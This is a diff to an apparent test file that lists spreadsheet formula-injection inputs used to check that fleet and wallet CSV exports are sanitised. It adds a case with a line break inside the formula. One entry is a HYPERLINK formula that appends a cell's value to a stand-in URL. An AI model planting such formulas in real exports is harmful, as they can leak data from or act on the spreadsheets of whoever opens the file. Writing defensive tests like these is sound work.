@@ -19,7 +19,17 @@ const { fleetExporter } = await import('../../src/resources/fleets/FleetList');
 const { transactionRows } = await import('../../src/custom/wallet/walletView');
 
 /** Issue 36 #2: what an outside tester typed into names, licences and references. */
-const FORMULAS = ['=HYPERLINK("http://x/?"&A2,"Open")', '=2+5', '+1-1', '@SUM(1)', '-2+3', '\tcmd', '\rcmd'];
+const FORMULAS = [
+  '=HYPERLINK("http://x/?"&A2,"Open")',
+  '=2+5',
+  '+1-1',
+  '@SUM(1)',
+  '-2+3',
+  '\tcmd',
+  '\rcmd',
+  // A line break inside the cell once slipped past papaparse's own pattern.
+  '=1+1\n+2',
+];
 
 /** A record whose every text field holds a formula, and whose other fields are harmless. */
 const hostile = (formula: string, fields: string[], extra: Record<string, unknown> = {}) =>
